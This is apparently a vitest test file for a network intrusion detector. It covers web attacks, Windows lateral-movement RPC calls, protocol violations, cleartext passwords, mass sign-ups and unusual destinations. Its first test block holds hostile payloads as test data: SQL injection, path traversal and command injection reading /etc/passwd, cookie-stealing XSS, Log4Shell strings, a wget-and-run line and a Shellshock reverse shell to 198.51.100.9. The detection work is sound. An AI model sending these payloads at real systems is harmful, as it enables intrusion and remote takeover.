import { describe, expect, it } from 'vitest';
import { decodeLayers, judgeRequest } from '../../../src-main/detect/behaviours/common/web-patterns.ts';
import { meaningOf, RPC } from '../../../src-main/detect/behaviours/common/rpc-interfaces.ts';
import { MassRegistration } from '../../../src-main/detect/behaviours/mass-registration.ts';
import { PolicyViolation } from '../../../src-main/detect/behaviours/policy-violation.ts';
import { ProtocolViolation } from '../../../src-main/detect/behaviours/protocol-violation.ts';
import { UnusualDestination } from '../../../src-main/detect/behaviours/unusual-destination.ts';
import { WebAttacks } from '../../../src-main/detect/behaviours/web-attack.ts';
import { WindowsRemote } from '../../../src-main/detect/behaviours/windows-remote.ts';
import { interfaceOrdinal } from '../../../src-main/meter/protocols/inspectors/rpc-interfaces.ts';
import { OPERATIONS } from '../../../src-main/meter/protocols/inspectors/rpc-told.ts';
import { Bench, times } from './message-bench.ts';

const A = '10.0.0.66';
const S = '10.0.0.9';
const score = (uri: string, body = '', agent = 'Mozilla/5.0 (X11; Linux x86_64)', header = 'host.example'): number =>
  judgeRequest(uri, body, agent, header, 'GET').score;

describe('attack patterns in requests', () => {
  it.each([
    ['SQL union', '/item?id=1%27%20UNION%20ALL%20SELECT%20user,password%20FROM%20users--', '', ''],
    ['SQL time delay', "/item?id=1;waitfor delay '0:0:5'--", '', ''],
    ['traversal, encoded twice', '/download?f=%252e%252e%252f%252e%252e%252fetc%252fpasswd', '', ''],
    ['script', '/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E', '', ''],
    ['command', '/ping', 'ip=127.0.0.1%3Bcat+/etc/passwd', ''],
    ['router exploit', '/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.9/x;sh+x', '', ''],
    ['Log4Shell in the body', '/login', 'uname=${jndi:ldap://198.51.100.9:1389/a}&password=', ''],
    ['Log4Shell, hidden', '/?x=${${lower:j}${lower:n}di:ldap://198.51.100.9/a}', '', ''],
    ['Shellshock', '/cgi-bin/status', '', '() { :;}; /bin/bash -i >& /dev/tcp/198.51.100.9/80 0>&1'],
    ['web shell', '/uploads/shell.php?cmd=whoami', '', ''],
    ['PHPUnit', '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', '<?php system(1);', ''],
  ])('are unmistakable: %s', (_, uri, body, agent) => {
    expect(score(uri, body, agent)).toBeGreaterThanOrEqual(10);
  });

  it('are found in headers that carry code', () => {
    expect(
      score('/index.action', '', 'curl/7.8', '%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}'),
    ).toBeGreaterThanOrEqual(10);
    expect(score('/', '', 'curl/7.8', 'x-api-version: ${jndi:ldap://198.51.100.9/a}')).toBeGreaterThanOrEqual(10);
  });

  it.each([
    '/search?q=rock+and+roll',
    "/people?name=O'Brien&city=Cork",
    '/select-shoes/from-italy?union=yes',
    '/article/how-to-drop-a-table-in-sql.html',
    '/?utm_source=a&utm_campaign=1%2B1&gclid=Cj0KCQ',
    '/api/v2/items?filter=%7B%22and%22%3A%5B1%2C2%5D%7D',
    '/wp-content/themes/x/style.css?ver=6.1',
    '/redirect?url=https%3A%2F%2Fwww.example.com%2Fa%3Fb%3D1%26c%3D2',
    '/calc?expr=(1%2B2)*3',
    '/static/js/main.js?v=..2',
  ])('are not there: %s', (uri) => {
    expect(score(uri)).toBeLessThan(4);
  });

  it('are looked for under three layers of encoding and no more', () => {
    expect(decodeLayers('%252541')).toBe('A');
    expect(decodeLayers('%25252541')).toBe('%41');
    expect(decodeLayers('a+b&lt;&#x73;')).toBe('a b<s');
  });

  it('make a case with what the server answered', () => {
    const bench = new Bench(new WebAttacks());
    const [finding] = bench.see(
      bench.message('http', {
        at: 0,
        from: A,
        to: S,
        flow: 1,
        method: 'GET',
        host: 'shop.example',
        uri: '/i?id=1%27+union+select+1,2--',
      }),
      bench.message('http', { at: 0.1, from: A, to: S, flow: 1, fromOrig: false, status: 200 }),
    );
    expect(finding).toMatchObject({ kind: 'intrusion-attempt', domains: ['shop.example'] });
    expect(finding!.evidence.at(-1)).toMatchObject({ value: 1 });
  });

  it.each([
    ['shop.example:8080', ', named "shop.example" by the client', ['shop.example']],
    ['10.0.0.99 and 10.0.0.98, which were taken over,', '', []],
    ['10.0.0.99', '', []],
    [`${'a.'.repeat(127)}b`, '', []],
    ['a"b.example', '', []],
  ])('are told of the address; a name is the word of the client: %s', (host, named, domains) => {
    const bench = new Bench(new WebAttacks());
    const uri = '/i?id=1%27+union+select+1,2--';
    const [finding] = bench.see(bench.message('http', { at: 0, from: A, to: S, flow: 1, method: 'GET', host, uri }));
    expect(finding).toMatchObject({ title: `${A} tried SQL injection at ${S}${named}`, domains });
  });

  it('add up over several weaker requests, but one alone says nothing', () => {
    const bench = new Bench(new WebAttacks());
    const ask = (at: number, uri: string) => bench.message('http', { at, from: A, to: S, method: 'GET', uri });
    expect(bench.see(ask(0, '/i?id=1%27'))).toEqual([]);
    expect(bench.see(ask(1, '/i?id=1%27+and+1%3D1%23'), ask(2, "/i?id=1'+or+'a'='a"))[0]).toMatchObject({
      severity: 'warning',
    });
  });
});

describe('Windows machines among themselves', () => {
  const call = (bench: Bench, at: number, bound: string, operation: number, rest: object = {}) =>
    bench.message('dcerpc', { at, from: A, to: S, interface: bound, operation, ...rest });

  it.each([
    ['a service is created', RPC.SVCCTL, 12, 'lateral-movement', 'T1021.002'],
    ['a task is registered', RPC.TASKS, 1, 'lateral-movement', 'T1053.005'],
    ['WMI runs a method', RPC.WMI_SERVICES, 24, 'lateral-movement', 'T1047'],
    ['passwords are replicated', RPC.DRSUAPI, 3, 'lateral-movement', 'T1003.006'],
    ['a server is made to call back', RPC.EFS, 0, 'intrusion-attempt', 'T1187'],
    ['a printer driver is installed', RPC.PRINT, 89, 'intrusion-attempt', 'T1210'],
  ])('%s', (_, bound, operation, kind, technique) => {
    const bench = new Bench(new WindowsRemote());
    const [finding] = bench.see(call(bench, 0, bound, operation));
    expect(finding).toMatchObject({ kind });
    expect(finding?.technique?.[0]?.id).toBe(technique);
    expect([bench.addresses(finding!.sources), bench.addresses(finding!.targets)]).toEqual([[A], [S]]);
  });

  it('names the calls, the interface, when, and the accounts that were in use', () => {
    const bench = new Bench(new WindowsRemote());
    const login = { from: A, to: '10.0.0.5', type: 'tgs-rep' } as const;
    const [finding] = bench.see(
      bench.message('kerberos', { at: 0, ...login, client: 'Ada@EXAMPLE.LAN', fromOrig: true }),
      bench.message('kerberos', { at: 0, ...login, client: 'PC-7$@EXAMPLE.LAN', fromOrig: true }),
      call(bench, 1, RPC.DRSUAPI, 3, { transport: 'tcp' }),
      call(bench, 2, RPC.DRSUAPI, 3, { transport: 'tcp' }),
    );
    const said = finding!.evidence.map(({ fact, value }) => `${fact}: ${value}`);
    expect(said).toHaveLength(3);
    expect(said[1]).toMatch(
      /^Calls of drsuapi 3 \(IDL_DRSGetNCChanges\) over tcp, first at \d{4}-\d\d-\d\d \d\d:\d\d:\d\d UTC: 2$/,
    );
    expect(said[2]).toBe(`Accounts in use from ${A} in this capture: ada@example.lan: 1`);
  });

  it('is Zerologon from the tenth authentication on, not a machine that starts', () => {
    const bench = new Bench(new WindowsRemote());
    const tries = times(10, (i) => [
      call(bench, i * 0.1, RPC.NETLOGON, 4),
      call(bench, i * 0.1 + 0.01, RPC.NETLOGON, 26),
    ]).flat();
    expect(bench.see(...tries.slice(0, 18))).toEqual([]);
    expect(bench.see(...tries.slice(18))[0]).toMatchObject({ kind: 'intrusion-attempt', severity: 'critical' });
  });

  it('leaves replication between domain controllers alone, also when that is learned later', () => {
    const bench = new Bench(new WindowsRemote());
    expect(bench.see(call(bench, 0, RPC.DRSUAPI, 3))).toHaveLength(1);
    expect(
      bench.see(bench.message('kerberos', { at: 1, from: '10.0.0.5', to: A, type: 'as-rep', fromOrig: false })),
    ).toEqual([]);
    expect(bench.withdrawn).toHaveLength(1);
    const known = new Bench(new WindowsRemote());
    known.see(known.message('kerberos', { at: 0, from: '10.0.0.5', to: A, type: 'tgs-rep', fromOrig: false }));
    expect(known.see(call(known, 1, RPC.DRSUAPI, 3))).toEqual([]);
  });

  it('takes the sender of a call for the caller when the capture began within the connection', () => {
    const bench = new Bench(new WindowsRemote());
    const [finding] = bench.see(call(bench, 0, RPC.SVCCTL, 12, { from: S, to: A, fromOrig: false }));
    expect(bench.addresses(finding!.sources)).toEqual([A]);
  });

  it('sees programs on administrative shares and the names of tools', () => {
    const bench = new Bench(new WindowsRemote());
    bench.see(
      bench.message('smb', {
        at: 0,
        from: A,
        to: S,
        flow: 1,
        command: 'tree-connect',
        path: '\\\\SRV\\C$',
        fromOrig: false,
      }),
      bench.message('smb', {
        at: 1,
        from: A,
        to: S,
        flow: 1,
        path: 'Windows\\Tasks\\run.bat',
        share: '\\\\SRV\\C$',
        fromOrig: false,
      }),
      bench.message('smb', { at: 2, from: A, to: S, flow: 2, path: 'PSEXESVC.exe', fromOrig: false }),
    );
    expect([...bench.findings.keys()].map((key) => key.split('|')[1])).toEqual([
      'admin-tree',
      'admin-share',
      'remote-tool',
    ]);
  });

  it('asks which share a program is on, not which was connected last', () => {
    const told = (share: string): boolean => {
      const bench = new Bench(new WindowsRemote());
      const smb = (at: number, path: string, rest: object) =>
        bench.message('smb', { at, from: A, to: S, flow: 1, path, fromOrig: false, ...rest });
      const connect = (at: number, path: string) => smb(at, path, { command: 'tree-connect' });
      bench.see(connect(0, '\\\\SRV\\software'), connect(1, '\\\\SRV\\C$'), connect(2, '\\\\SRV\\IPC$'));
      bench.see(smb(3, 'Temp\\setup.exe', { share }));
      return [...bench.findings.keys()].some((key) => key.startsWith('windows|admin-share'));
    };
    expect(told('\\\\SRV\\C$')).toBe(true);
    expect(told('\\\\SRV\\software')).toBe(false);
    expect(told('')).toBe(false);
  });

  it.each([
    ['a program', 'temp\\evil.exe'],
    ['its only stream by name', 'temp\\evil.exe::$DATA'],
    ['a program in another stream', 'temp\\notes.txt:evil.exe:$DATA'],
    ['another stream of a program', 'temp\\evil.exe:more'],
    ['dots and blanks that Windows leaves out', 'temp\\evil.exe. .'],
    ['both', 'temp\\evil.exe. ::$DATA'],
  ])('knows programs by what Windows opens: %s', (_, path) => {
    const bench = new Bench(new WindowsRemote());
    const [finding] = bench.see(bench.message('smb', { at: 0, from: A, to: S, path, share: '\\\\SRV\\ADMIN$' }));
    expect(finding).toMatchObject({ kind: 'lateral-movement', severity: 'critical' });
  });

  it('knows no program by a folder or a stream that only looks like one', () => {
    const bench = new Bench(new WindowsRemote());
    const opened = (path: string) => bench.message('smb', { at: 0, from: A, to: S, path, share: '\\\\SRV\\C$' });
    expect(bench.see(opened('a.exe\\notes.txt'), opened('notes.txt:Zone.Identifier'), opened('exe'))).toEqual([]);
  });

  it('names calls that the meter tells however many others there are', () => {
    for (const bound of Object.values(RPC))
      for (let operation = 0; operation < 65_536; operation++) {
        if (!meaningOf(bound, operation)) continue;
        expect(interfaceOrdinal(bound), `${bound} ${operation}`).toBeGreaterThan(0);
        expect(operation).toBeLessThan(OPERATIONS - 1);
      }
    for (const bound of [RPC.NETLOGON, RPC.ACTIVATION, RPC.WMI_LOGIN, RPC.DISPATCH])
      expect(interfaceOrdinal(bound)).toBeGreaterThan(0);
  });

  it('is quiet about logins, name look-ups, policies and file shares', () => {
    const bench = new Bench(new WindowsRemote());
    bench.see(call(bench, 0, RPC.NETLOGON, 4), call(bench, 0.1, RPC.NETLOGON, 26), call(bench, 0.2, RPC.NETLOGON, 45));
    bench.see(
      call(bench, 1, RPC.LSARPC, 57),
      call(bench, 1.1, RPC.SAMR, 5),
      call(bench, 1.2, RPC.SAMR, 17),
      call(bench, 2, RPC.DRSUAPI, 12),
    );
    bench.see(
      bench.message('smb', {
        at: 3,
        from: A,
        to: S,
        flow: 5,
        command: 'tree-connect',
        path: '\\\\DC\\sysvol',
        fromOrig: false,
      }),
    );
    bench.see(
      bench.message('smb', {
        at: 4,
        from: A,
        to: S,
        flow: 5,
        path: 'corp.example\\Policies\\{31B2}\\gpt.ini',
        fromOrig: false,
      }),
    );
    bench.see(bench.message('smb', { at: 5, from: A, to: S, flow: 6, path: 'Public\\setup.exe', fromOrig: false }));
    expect(bench.finish()).toEqual([]);
  });

  it('names the export of a federation server by a script', () => {
    const bench = new Bench(new WindowsRemote());
    const [finding] = bench.see(
      bench.message('http', {
        at: 0,
        from: A,
        to: S,
        method: 'POST',
        uri: '/adfs/services/policystoretransfer',
        agent: 'WindowsPowerShell/5.1',
      }),
    );
    expect(finding).toMatchObject({ kind: 'lateral-movement' });
  });
});

describe('broken rules', () => {
  const weird = (bench: Bench, at: number, name: string, fromOrig = true) =>
    bench.message('weird', { at, from: A, to: S, name, fromOrig });

  it('are weighed: a few that only attacks produce are enough', () => {
    const bench = new Bench(new ProtocolViolation());
    expect(bench.see(weird(bench, 0, 'fragment-overlap'))).toEqual([]);
    expect(bench.see(weird(bench, 1, 'fragment-overlap'), weird(bench, 2, 'land'))[0]).toMatchObject({
      kind: 'protocol-violation',
    });
  });

  it('are the weather when one broken program repeats itself', () => {
    const bench = new Bench(new ProtocolViolation());
    bench.see(...times(100, (i) => weird(bench, i, 'dns-trailing-bytes')));
    expect(bench.finish()).toEqual([]);
  });

  it('of two lengths in a message tell of attacks in requests, of careless servers in answers', () => {
    const said = (asked: boolean): number => {
      const bench = new Bench(new ProtocolViolation());
      return bench.see(...times(10, (i) => weird(bench, i, 'http-two-lengths', asked))).length;
    };
    expect([said(true), said(false)]).toEqual([1, 0]);
  });

  it('name an exploit where one breach is one', () => {
    const bench = new Bench(new ProtocolViolation());
    expect(bench.see(weird(bench, 0, 'smb-compression-lie'))[0]).toMatchObject({
      kind: 'intrusion-attempt',
      confidence: 0.9,
    });
  });
});

describe('good practice', () => {
  it('a readable login is worth knowing, an anonymous one is not', () => {
    const bench = new Bench(new PolicyViolation());
    bench.see(
      bench.message('login', { at: 0, from: A, to: S, user: 'anonymous', cleartext: true, outcome: 'attempt' }),
    );
    expect(bench.finish()).toEqual([]);
    const [finding] = bench.see(
      bench.message('login', { at: 1, from: A, to: S, user: 'anna', cleartext: true, outcome: 'attempt' }),
    );
    expect(finding).toMatchObject({ kind: 'policy-violation', severity: 'info', technique: [] });
  });

  it('is told of every protocol whose password was readable, by its name', () => {
    const bench = new Bench(new PolicyViolation());
    const clear = (protocol: string, user = '', to = S) =>
      bench.message('clear', { at: 1, from: A, to, protocol, user });
    const told = bench.see(clear('mqtt', 'anna'), clear('mssql-tds', 'sa'), clear('redis', '', '203.0.113.9'));
    expect(told.map(({ title, severity }) => [title, severity])).toEqual([
      ['10.0.0.66 sent a password to 10.0.0.9 that anybody on the way can read (MQTT)', 'info'],
      ['10.0.0.66 sent a password to 10.0.0.9 that anybody on the way can read (MS-SQL)', 'info'],
      ['10.0.0.66 sent a password to 203.0.113.9 that anybody on the way can read (Redis)', 'info'],
    ]);
    expect(told[0]!.summary).toBe('1 message with readable credentials of anna, inside the network.');
  });

  it('is told where the account was not seen', () => {
    const bench = new Bench(new PolicyViolation());
    const login = (at: number, user: string) =>
      bench.message('login', { at, from: A, to: S, protocol: 'imap', user, cleartext: true, outcome: 'attempt' });
    expect(bench.see(login(1, ''))[0]).toMatchObject({
      title: '10.0.0.66 sent a password to 10.0.0.9 that anybody on the way can read (IMAP)',
      summary: '1 message with readable credentials of an account that was not seen, inside the network.',
    });
    expect(bench.see(login(2, 'anna'))[0]?.summary).toBe(
      '2 messages with readable credentials of anna and an account that was not seen, inside the network.',
    );
  });

  it('is nothing of an account that has no secret', () => {
    const bench = new Bench(new PolicyViolation());
    expect(bench.see(bench.message('clear', { at: 1, from: A, to: S, protocol: 'amqp', user: 'guest' }))).toEqual([]);
  });

  it('becomes a warning when many accounts cross the border readable', () => {
    const bench = new Bench(new PolicyViolation());
    bench.see(
      ...times(12, (i) =>
        bench.message('login', {
          at: i,
          from: A,
          to: '203.0.113.9',
          protocol: 'pop3',
          user: `user${i}`,
          cleartext: true,
          outcome: 'succeeded',
        }),
      ),
    );
    expect(bench.finish()[0]?.severity).toBe('warning');
  });
});

describe('mass registration', () => {
  const post = (bench: Bench, at: number, name: string) =>
    bench.message('http', {
      at,
      from: A,
      to: S,
      method: 'POST',
      uri: '/account/register',
      host: 'forum.example',
      body: `username=${name}&password=x`,
    });

  it('is fifteen names at one sign-up form within minutes', () => {
    const bench = new Bench(new MassRegistration());
    expect(bench.see(...times(14, (i) => post(bench, i * 5, `bot${i}`)))).toEqual([]);
    expect(bench.see(post(bench, 75, 'bot14'))[0]).toMatchObject({
      kind: 'mass-registration',
      domains: ['forum.example'],
    });
  });

  it('is not one person who corrects a form, nor posts elsewhere', () => {
    const bench = new Bench(new MassRegistration());
    bench.see(...times(40, (i) => post(bench, i, 'anna')));
    bench.see(
      ...times(40, (i) =>
        bench.message('http', { at: i, from: A, to: S, method: 'POST', uri: '/search', body: `name=${i}` }),
      ),
    );
    expect(bench.finish()).toEqual([]);
  });

  it('counts telephones at a registrar that does not let them in, not those of an office', () => {
    const phone = (bench: Bench, i: number, outcome: 'attempt' | 'succeeded') =>
      bench.message('login', { at: i, from: A, to: S, respPort: 5060, protocol: 'sip', outcome, user: `${1000 + i}` });
    const bench = new Bench(new MassRegistration());
    bench.see(...times(25, (i) => phone(bench, i, 'attempt')));
    expect(bench.finish()[0]?.kind).toBe('mass-registration');
    const office = new Bench(new MassRegistration());
    office.see(...times(40, (i) => [phone(office, i, 'attempt'), phone(office, i, 'succeeded')]).flat());
    expect(office.finish()).toEqual([]);
  });
});

describe('unusual destinations', () => {
  const flow = { at: 10, from: A, to: '203.0.113.5', port: 40_404, up: 900, down: 900 };

  it('are outside, without a name, on a port of nobody, in no known protocol', () => {
    const bench = new Bench(new UnusualDestination());
    bench.see(
      bench.message('dns', { at: 0, from: A, to: S, response: true, qname: 'a.example', addresses: ['198.51.100.1'] }),
    );
    expect(bench.ended([flow])[0]).toMatchObject({ kind: 'unusual-destination', severity: 'info' });
  });

  it('say nothing when no names are to be seen, or the protocol is known, or a name led there', () => {
    const blind = new Bench(new UnusualDestination());
    expect(blind.ended([flow])).toEqual([]);
    const bench = new Bench(new UnusualDestination());
    bench.see(
      bench.message('dns', { at: 0, from: A, to: S, response: true, qname: 'a.example', addresses: ['203.0.113.5'] }),
    );
    expect(bench.ended([flow, { ...flow, to: '203.0.113.6', service: 'ssl' }])).toEqual([]);
  });
});
